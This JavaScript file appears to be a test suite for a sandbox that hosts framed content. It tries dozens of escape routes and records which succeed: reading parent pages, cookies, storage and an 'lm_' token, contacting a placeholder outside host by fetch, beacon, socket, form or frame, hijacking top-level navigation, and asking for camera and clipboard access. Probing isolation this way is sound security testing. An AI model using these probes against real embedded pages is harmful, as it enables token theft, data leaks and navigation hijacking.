// A layer that tries to reach what is around it. `got` names what it reached.
const OWN = 'OWN_ADDRESS';
const ELSEWHERE = 'ELSEWHERE_ADDRESS';
const got = [];
let attempts = 0;

/** Notes an attempt that neither throws nor waits for ever. */
async function attempt(name, reach) {
  attempts += 1;
  const late = new Promise((resolve, reject) => setTimeout(() => reject(new Error('late')), 300));
  try {
    const value = await Promise.race([reach(), late]);
    if (value !== undefined && value !== null && value !== '' && value !== false) got.push(`${name}: ${value}`);
  } catch {
    // Refused.
  }
}

const loaded = (element) =>
  new Promise((resolve, reject) => {
    element.onload = () => resolve('loaded');
    element.oncanplay = () => resolve('loaded');
    element.onerror = () => reject(new Error('refused'));
    document.body.append(element);
  });
const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
const text = (code, type = 'text/javascript') => URL.createObjectURL(new Blob([code], { type }));
const report = "parent.postMessage('child with ' + typeof RTCPeerConnection, '*')";
const tag = (content) => `<script${content}</scr` + 'ipt>';
const answer = (element) =>
  new Promise((resolve) => {
    addEventListener('message', ({ data }) => resolve(data), { once: true });
    document.body.append(element);
  });

const ATTEMPTS = {
  parent: () => parent.document.title,
  page: () => parent.parent.document.title,
  address: () => parent.parent.location.href,
  top: () => top.document.title,
  opener: () => window.opener,
  cookie: () => document.cookie,
  local: () => localStorage.length + 1,
  session: () => sessionStorage.length + 1,
  databases: () => new Promise((resolve, reject) => {
    const request = indexedDB.open('x');
    request.onsuccess = () => resolve('open');
    request.onerror = reject;
  }),
  caches: () => caches.keys().then(() => 'keys'),
  referrer: () => document.referrer,
  token: () => [location.href, document.baseURI, window.name].find((value) => value.includes('lm_')),
  'own address': () => fetch(`${OWN}/v1/users/me`).then(({ status }) => status),
  'own picture': () => loaded(make('img', { src: `${OWN}/v1/health` })),
  fetch: () => fetch(`${ELSEWHERE}/fetch`).then(({ status }) => status),
  picture: () => loaded(make('img', { src: `${ELSEWHERE}/picture` })),
  style: () => loaded(make('link', { rel: 'stylesheet', href: `${ELSEWHERE}/style` })),
  font: () => new FontFace('x', `url(${ELSEWHERE}/font)`).load().then(() => 'loaded'),
  sound: () => loaded(make('audio', { src: `${ELSEWHERE}/sound` })),
  script: () => loaded(make('script', { src: `${ELSEWHERE}/script` })),
  module: () => import(`${ELSEWHERE}/module`).then(() => 'loaded'),
  'data module': () => import('data:text/javascript,export default 1').then(() => 'loaded'),
  socket: () => new Promise((resolve, reject) => {
    Object.assign(new WebSocket(ELSEWHERE.replace('http', 'ws')), { onopen: () => resolve('open'), onerror: reject });
  }),
  stream: () => new Promise((resolve, reject) => {
    Object.assign(new EventSource(`${ELSEWHERE}/stream`), { onopen: () => resolve('open'), onerror: reject });
  }),
  beacon: () => void navigator.sendBeacon(`${ELSEWHERE}/beacon`, 'x'),
  eval: () => (0, eval)('1'),
  worker: () => new Promise((resolve, reject) => {
    Object.assign(new Worker(text('postMessage(1)')), { onmessage: () => resolve('ran'), onerror: reject });
  }),
  'shared worker': () => new Promise((resolve, reject) => {
    const { port } = Object.assign(new SharedWorker(text('onconnect = ({ ports: [port] }) => port.postMessage(1)')), {
      onerror: reject,
    });
    port.onmessage = () => resolve('ran');
  }),
  'service worker': () => navigator.serviceWorker.register('/x.js').then(() => 'registered'),
  webrtc: () => new RTCPeerConnection(),
  'old webrtc': () => new webkitRTCPeerConnection(),
  open: () => window.open(`${ELSEWHERE}/open`),
  form: () => {
    const form = make('form', { action: `${ELSEWHERE}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  ping: () => {
    const link = make('a', { href: `${ELSEWHERE}/link`, ping: `${ELSEWHERE}/ping`, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'navigation of the top': () => void (top.location = `${ELSEWHERE}/top`),
  'navigation of the page': () => void (parent.parent.location = `${ELSEWHERE}/page`),
  'navigation of the frame around': () => void (parent.location = `${ELSEWHERE}/cage`),
  'navigation of others': () => {
    for (let at = 0; at < top.length; at += 1) if (top[at] !== parent) top[at].location = `${ELSEWHERE}/other`;
  },
  'frame of elsewhere': () => void document.body.append(make('iframe', { src: `${ELSEWHERE}/frame` })),
  'empty frame': () => {
    const frame = make('iframe', {});
    document.body.append(frame);
    return frame.contentWindow.RTCPeerConnection;
  },
  'frame with code': () => answer(make('iframe', { srcdoc: tag(`>${report}`) })),
  'frame with a file': () => answer(make('iframe', { srcdoc: tag(` src="${text(report)}">`) })),
  'frame of a file': () => answer(make('iframe', { src: text(tag(`>${report}`), 'text/html') })),
  'frame of data': () => answer(make('iframe', { src: `data:text/html,${tag(`>${report}`)}` })),
  'frame of a script': () => answer(make('iframe', { src: `javascript:${report}` })),
  'refresh in a frame': () =>
    void document.body.append(make('iframe', { srcdoc: `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/refresh">` })),
  object: () => void document.body.append(make('object', { data: `${ELSEWHERE}/object` })),
  embed: () => void document.body.append(make('embed', { src: `${ELSEWHERE}/embed` })),
  policy: () => {
    document.head.append(make('meta', { httpEquiv: 'Content-Security-Policy', content: 'default-src *' }));
    return fetch(`${ELSEWHERE}/policy`).then(({ status }) => status);
  },
  links: () => {
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'manifest']) {
      document.head.append(make('link', { rel, as: 'fetch', href: `${ELSEWHERE}/${rel}` }));
    }
  },
  rules: () => {
    const rules = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${ELSEWHERE}/rules`] }] });
    document.head.append(make('script', { type: 'speculationrules', textContent: rules }));
  },
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  clipboard: () => navigator.clipboard.readText().then(() => 'read'),
  'sound of elsewhere': () => void lumio.play(`${ELSEWHERE}/play`, 1),
  markup: () => {
    const image = `<svg><image href="${ELSEWHERE}/svg"/></svg><video poster="${ELSEWHERE}/poster"></video>`;
    root.insertAdjacentHTML('beforeend', `${image}<img srcset="${ELSEWHERE}/srcset 1x"><input type=image src="${ELSEWHERE}/input">`);
  },
};

async function run() {
  for (const [name, reach] of Object.entries(ATTEMPTS)) await attempt(name, reach);
  lumio.on('event:new', () => {
    throw new Error(`REPORT ${attempts} attempts, got [${got.join('; ')}]`);
  });
}
